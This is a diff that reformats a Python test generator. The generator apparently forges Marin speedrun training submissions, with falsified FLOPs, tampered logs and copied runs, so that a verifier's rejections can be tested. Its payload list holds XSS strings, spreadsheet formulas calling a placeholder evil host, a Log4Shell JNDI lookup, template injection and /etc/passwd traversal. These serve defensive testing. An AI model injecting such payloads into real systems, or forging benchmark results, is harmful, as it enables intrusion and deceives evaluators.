@@ -13,7 +13,19 @@ import shutil
 from collections.abc import Callable
 from typing import Any
 
-from forgeries.editing import bind, edit_log, edit_run, edit_run_json, log_events, replace_text, results_of, restate, set_figure, write_log, write_results
+from forgeries.editing import (
+    bind,
+    edit_log,
+    edit_run,
+    edit_run_json,
+    log_events,
+    replace_text,
+    restate,
+    results_of,
+    set_figure,
+    write_log,
+    write_results,
+)
 from forgeries.honest import BEGIN, Plan, write_submission
 
 from marin.speedrun.verdict import Rung
@@ -50,8 +62,12 @@ class Bases:
     @staticmethod
     def make(folder: pathlib.Path) -> "Bases":
         rng = random.Random(7)
-        plain = write_submission(folder / "plain", [Plan(steps=60, eval_every=20, wandb="https://wandb.ai/example/marin/runs/plain-1")], rng)
-        resumed = write_submission(folder / "resumed", [Plan(steps=60, kills=(25, 44), wandb="https://wandb.ai/example/marin/runs/res-1")], rng)
+        plain = write_submission(
+            folder / "plain", [Plan(steps=60, eval_every=20, wandb="https://wandb.ai/example/marin/runs/plain-1")], rng
+        )
+        resumed = write_submission(
+            folder / "resumed", [Plan(steps=60, kills=(25, 44), wandb="https://wandb.ai/example/marin/runs/res-1")], rng
+        )
         seeds = write_submission(folder / "seeds", [Plan(steps=40, seed=seed) for seed in range(3)], rng)
         device = write_submission(folder / "device", [Plan(steps=40, device="v5p-32", hidden=128)], rng)
         return Bases(plain, resumed, seeds, device, tuple(known_runs_of(plain, "plain")))
@@ -114,7 +130,9 @@ def infinite_by_size(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
 
 @family(6)
 def null_cost(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
-    field = ("training_hardware_flops", "training_time", "model_flops", "total_tokens", "model_size", "resources")[variant]
+    field = ("training_hardware_flops", "training_time", "model_flops", "total_tokens", "model_size", "resources")[
+        variant
+    ]
     set_figure(without_logs(bases.copy("plain", to)), field, None)
     if field == "resources":
         edit_run(to, lambda info: info.update(platform=None))
@@ -166,7 +184,10 @@ def typed_in_peak(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     def change(info: dict[str, Any]) -> None:
         info["training_hardware_flops"] = info["training_time"] * peak
         info["device_flops"] = info["resources"]["device_flops_override"] = peak
-        info["mfu"], info["traced_mfu"] = info["model_flops"] / info["training_hardware_flops"], info["traced_flops"] / info["training_hardware_flops"]
+        info["mfu"], info["traced_mfu"] = (
+            info["model_flops"] / info["training_hardware_flops"],
+            info["traced_flops"] / info["training_hardware_flops"],
+        )
 
     edit_run(directory, change)
     return expect("arithmetic", "typed in by the author")
@@ -201,7 +222,10 @@ def impossible_speed(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     def change(info: dict[str, Any]) -> None:
         info["training_time"] = info["model_flops"] / info["device_flops"] / (1.1 + variant)
         info["training_hardware_flops"] = info["training_time"] * info["device_flops"]
-        info["mfu"], info["traced_mfu"] = info["model_flops"] / info["training_hardware_flops"], info["traced_flops"] / info["training_hardware_flops"]
+        info["mfu"], info["traced_mfu"] = (
+            info["model_flops"] / info["training_hardware_flops"],
+            info["traced_flops"] / info["training_hardware_flops"],
+        )
 
     edit_run(directory, change)
     return expect("arithmetic", "MFU is", "cannot have done this work")
@@ -235,7 +259,13 @@ def _of_known_set(directory: pathlib.Path, change: Callable[[dict[str, Any]], ob
 
     def apply(info: dict[str, Any]) -> None:
         block = info["evaluation"]
-        block.update(name=known.name, digest=known.digest, bytes=known.num_bytes, documents=known.num_documents, tokens=known.num_bytes // 3)
+        block.update(
+            name=known.name,
+            digest=known.digest,
+            bytes=known.num_bytes,
+            documents=known.num_documents,
+            tokens=known.num_bytes // 3,
+        )
         info["digests"]["evaluation_set"] = known.digest
         change(info)
 
@@ -247,12 +277,17 @@ def byte_miscount(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     directory = without_logs(bases.copy("plain", to))
     if variant < 5:
         factor = (1.01, 1.1, 1.5, 2.0, 1.0001)[variant]
-        _of_known_set(directory, lambda info: info["evaluation"].update(bytes=int(info["evaluation"]["bytes"] * factor)))
+        _of_known_set(
+            directory, lambda info: info["evaluation"].update(bytes=int(info["evaluation"]["bytes"] * factor))
+        )
         return expect("arithmetic", "evaluation.bytes is", "miscounted")
     if variant == 5:
         _of_known_set(directory, lambda info: info["evaluation"].update(documents=100))
         return expect("arithmetic", "evaluation.documents is 100")
-    edit_run(directory, lambda info: info["evaluation"].update(bytes=info["evaluation"]["tokens"] * (50 if variant == 6 else 100)))
+    edit_run(
+        directory,
+        lambda info: info["evaluation"].update(bytes=info["evaluation"]["tokens"] * (50 if variant == 6 else 100)),
+    )
     return expect("arithmetic", "bytes a token")
 
 
@@ -260,7 +295,12 @@ def byte_miscount(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
 def other_metric_version(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     directory = without_logs(bases.copy("plain", to))
     if variant < 2:
-        edit_run(directory, lambda info: info.update({"eval/paloma/c4_en/bpb": info["evaluation"]["bits_per_byte"] * (1 - 0.1 * variant)}))
+        edit_run(
+            directory,
+            lambda info: info.update(
+                {"eval/paloma/c4_en/bpb": info["evaluation"]["bits_per_byte"] * (1 - 0.1 * variant)}
+            ),
+        )
         return expect("arithmetic", "C4-EN are stated, but the evaluation is of")
     if variant < 4:
 
@@ -269,14 +309,22 @@ def other_metric_version(bases: Bases, to: pathlib.Path, variant: int) -> Expect
             info["eval/paloma/c4_en/bpb"] = info["evaluation"]["bits_per_byte"] * (1 if variant == 2 else 0.9)
 
         edit_run(directory, as_c4)
-        return expect("arithmetic", "the mean over batches", "the sum over all bytes" if variant == 2 else "another figure")
+        return expect(
+            "arithmetic", "the mean over batches", "the sum over all bytes" if variant == 2 else "another figure"
+        )
     if variant < 6:
         edit_run(directory, lambda info: info["evaluation"].update(metric_version=variant))
         return expect("arithmetic", "version", "of the metric")
     if variant == 6:
-        _of_known_set(directory, lambda info: (info["evaluation"].update(digest="0" * 64), info["digests"].update(evaluation_set="0" * 64)))
+        _of_known_set(
+            directory,
+            lambda info: (info["evaluation"].update(digest="0" * 64), info["digests"].update(evaluation_set="0" * 64)),
+        )
         return expect("arithmetic", "another version of the set")
-    edit_run(directory, lambda info: info["evaluation"].update(levanter_bits_per_byte=3 * info["evaluation"]["bits_per_byte"]))
+    edit_run(
+        directory,
+        lambda info: info["evaluation"].update(levanter_bits_per_byte=3 * info["evaluation"]["bits_per_byte"]),
+    )
     return expect("arithmetic", "not of one evaluation")
 
 
@@ -285,7 +333,12 @@ def better_quality_than_the_log(bases: Bases, to: pathlib.Path, variant: int) ->
     directory = bases.copy("plain", to)
     (directory / "logs" / "0" / "evaluation.json").unlink()
     factor = (0.1, 0.2, 0.3, 0.4, 0.55, 0.65)[variant]
-    edit_run(directory, lambda info: info["evaluation"].update({key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}))
+    edit_run(
+        directory,
+        lambda info: info["evaluation"].update(
+            {key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}
+        ),
+    )
     return expect("log", "bits per byte", "the last losses of training")
 
 
@@ -293,7 +346,12 @@ def better_quality_than_the_log(bases: Bases, to: pathlib.Path, variant: int) ->
 def evaluation_edited(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     directory = bases.copy("plain", to)
     factor = 1 - 10.0 ** -(variant + 1)
-    edit_run(directory, lambda info: info["evaluation"].update({key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}))
+    edit_run(
+        directory,
+        lambda info: info["evaluation"].update(
+            {key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}
+        ),
+    )
     return expect("log", "evaluation is", "evaluation.json")
 
 
@@ -347,7 +405,9 @@ def dropped_slow_steps(bases: Bases, to: pathlib.Path, variant: int) -> Expected
 
     directory = bases.copy("plain", to)
     edit_log(directory, change, careful=True)
-    return expect("log", "neither the clock nor a named pause") if renumbered else expect("log", "the first gap at step")
+    return (
+        expect("log", "neither the clock nor a named pause") if renumbered else expect("log", "the first gap at step")
+    )
 
 
 @family(8)
@@ -370,7 +430,9 @@ def off_clock_work(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     def change(events: list[Event]) -> list[Event]:
         at = len(events) // 2
         for number, event in enumerate(events):
-            event["time"] = round(event["time"] + (seconds * number / len(events) if variant >= 4 else seconds * (number > at)), 3)
+            event["time"] = round(
+                event["time"] + (seconds * number / len(events) if variant >= 4 else seconds * (number > at)), 3
+            )
         return events
 
     edit_log(bases.copy("plain", to), change, careful=True)
@@ -380,7 +442,16 @@ def off_clock_work(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
 @family(8)
 def false_pauses(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     """Work off the clock under a name: one that the clock does not know, or that of something that was not done."""
-    reason = ("tuning", "optimizer", "data loading", "evaluation", "evaluation", "checkpoint", "checkpoint", "hf export")[variant]
+    reason = (
+        "tuning",
+        "optimizer",
+        "data loading",
+        "evaluation",
+        "evaluation",
+        "checkpoint",
+        "checkpoint",
+        "hf export",
+    )[variant]
 
     def change(events: list[Event]) -> list[Event]:
         shift, found = 0.0, []
@@ -388,11 +459,23 @@ def false_pauses(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
             found.append({**event, "time": round(event["time"] + shift, 3)})
             if event["event"] == "step" and event["step"] % 5 == 2:
                 shift += 0.5
-                found.append({"event": "pause", "reason": reason, "step": event["step"], "seconds": 0.5, "time": round(event["time"] + shift, 3)})
+                found.append(
+                    {
+                        "event": "pause",
+                        "reason": reason,
+                        "step": event["step"],
+                        "seconds": 0.5,
+                        "time": round(event["time"] + shift, 3),
+                    }
+                )
         return found
 
     edit_log(bases.copy("plain", to), change, careful=True)
-    words = {"evaluation": "where the config plans", "checkpoint": "the clock stopped for something else", "hf export": "does not plan"}
+    words = {
+        "evaluation": "where the config plans",
+        "checkpoint": "the clock stopped for something else",
+        "hf export": "does not plan",
+    }
     return expect("log", words.get(reason, "the clock stops for"))
 
 
@@ -441,7 +524,11 @@ def time_travel(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
         edit_log(directory, lambda events: [{**event, "time": event["time"] + shift} for event in events], careful=True)
         return expect("log", "has not come yet")
     if variant < 4:
-        set_figure(without_logs(directory), "run_completion_timestamp", ("2099-01-01 00:00:00 UTC", "2040-02-03 04:05:06 UTC")[variant - 2])
+        set_figure(
+            without_logs(directory),
+            "run_completion_timestamp",
+            ("2099-01-01 00:00:00 UTC", "2040-02-03 04:05:06 UTC")[variant - 2],
+        )
         return expect("arithmetic", "has not come yet")
     if variant == 4:
         set_figure(directory, "run_completion_timestamp", "2024-01-01 00:00:00 UTC")
@@ -473,7 +560,9 @@ def log_of_another_config(bases: Bases, to: pathlib.Path, variant: int) -> Expec
         edit_run_json(directory, lambda info: info["seeds"].update(model=5))
         return expect("log", "the hash chain breaks at line 1")
     if variant == 4:
-        edit_run_json(directory, lambda info: info.update(model_flops_per_token=info["model_flops_per_token"] / 2), careful=True)
+        edit_run_json(
+            directory, lambda info: info.update(model_flops_per_token=info["model_flops_per_token"] / 2), careful=True
+        )
         return expect("log", "model_flops_per_token is", "run.json says")
     edit_run(directory, lambda info: info["train_config"].update(learning_rate=0.5))
     return expect("log", "train_config is")
@@ -544,18 +633,25 @@ def copied_run_other_device(bases: Bases, to: pathlib.Path, variant: int) -> Exp
 
     def change(info: dict[str, Any]) -> None:
         _anonymous(info, "Eve Copy")
-        info.update(digests=None, device_name=device, device_flops=peak, training_hardware_flops=info["training_time"] * peak)
+        info.update(
+            digests=None, device_name=device, device_flops=peak, training_hardware_flops=info["training_time"] * peak
+        )
         info["resources"].update(accelerator_type=device)
         if variant >= 4:
             info["training_time"] *= 1.004
             info["training_hardware_flops"] *= 1.004
-        info["mfu"], info["traced_mfu"] = info["model_flops"] / info["training_hardware_flops"], info["traced_flops"] / info["training_hardware_flops"]
+        info["mfu"], info["traced_mfu"] = (
+            info["model_flops"] / info["training_hardware_flops"],
+            info["traced_flops"] / info["training_hardware_flops"],
+        )
 
     edit_run(directory, change)
     context = Context(known=bases.known)
     if variant >= 4:
         return expect("arithmetic", "bits per byte are those of plain to the last digit", context=context)
-    return expect("arithmetic", "training_time is that of plain to the last digit, with another device", context=context)
+    return expect(
+        "arithmetic", "training_time is that of plain to the last digit, with another device", context=context
+    )
 
 
 @family(8)
@@ -589,7 +685,14 @@ def rounded_or_perturbed_copy(bases: Bases, to: pathlib.Path, variant: int) -> E
 def same_run_page(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     directory = without_logs(bases.copy("seeds", to))
     link = "https://wandb.ai/example/marin/runs/plain-1"
-    changed = (link, link + "/", link + "?nw=1", link.upper().replace("HTTPS", "https"), link.replace("https", "http"), link + "/overview")[variant]
+    changed = (
+        link,
+        link + "/",
+        link + "?nw=1",
+        link.upper().replace("HTTPS", "https"),
+        link.replace("https", "http"),
+        link + "/overview",
+    )[variant]
     set_figure(directory, "wandb_run_link", changed)
     return expect("arithmetic", "the run's page is that of plain", context=Context(known=bases.known))
 
@@ -681,15 +784,25 @@ _PAYLOADS = (
     ("<script>alert(1)</script>", "markup"),
     ("<svg onload=alert(1)>", "markup"),
     ('"><img src=x onerror=alert(1)>', "markup"),
-    ("=HYPERLINK(\"http://evil\",\"x\")", "a spreadsheet formula"),
+    ('=HYPERLINK("http://evil","x")', "a spreadsheet formula"),
     ("@SUM(1+1)*cmd|' /C calc'!A0", "a spreadsheet formula"),
     ("{{ config.__class__ }}", "template code"),
     ("{% import os %}", "template code"),
     ("${jndi:ldap://evil/a}", "template code"),
     ("../../../etc/passwd", "a path that leads elsewhere"),
-    ("<!--#exec cmd=\"ls\"-->", "markup"),
+    ('<!--#exec cmd="ls"-->', "markup"),
 )
-_TEXT_FIELDS = ("author.name", "author.affiliation", "description", "tokenized_dataset", "git_commit", "evaluation.name", "sample", "digests.config", "device_name")
+_TEXT_FIELDS = (
+    "author.name",
+    "author.affiliation",
+    "description",
+    "tokenized_dataset",
+    "git_commit",
+    "evaluation.name",
+    "sample",
+    "digests.config",
+    "device_name",
+)
 
 
 @family(90)
@@ -715,7 +828,14 @@ def payload_in_keys_and_configs(bases: Bases, to: pathlib.Path, variant: int) ->
 @family(6)
 def script_links(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     directory = without_logs(bases.copy("plain", to))
-    link = ("javascript:alert(1)", "data:text/html,x", "//evil.example", "file:///etc/passwd", "https://a b", "ftp://example.org")[variant]
+    link = (
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "//evil.example",
+        "file:///etc/passwd",
+        "https://a b",
+        "ftp://example.org",
+    )[variant]
     field = ("author.url", "wandb_run_link")[variant % 2]
     set_figure(directory, field, link)
     return expect("submission", field, "is no web address")
@@ -826,5 +946,7 @@ def too_large(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
 @family(6)
 def whole_fabrication(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
     """Everything invented so that it fits, chain and all: it reaches `log`, which says that it proves no more."""
-    write_submission(to, [Plan(steps=30, seed=0, step_time=0.001 * (variant + 1), author="Eve Invents")], random.Random(variant))
+    write_submission(
+        to, [Plan(steps=30, seed=0, step_time=0.001 * (variant + 1), author="Eve Invents")], random.Random(variant)
+    )
     return expect("RAISED")
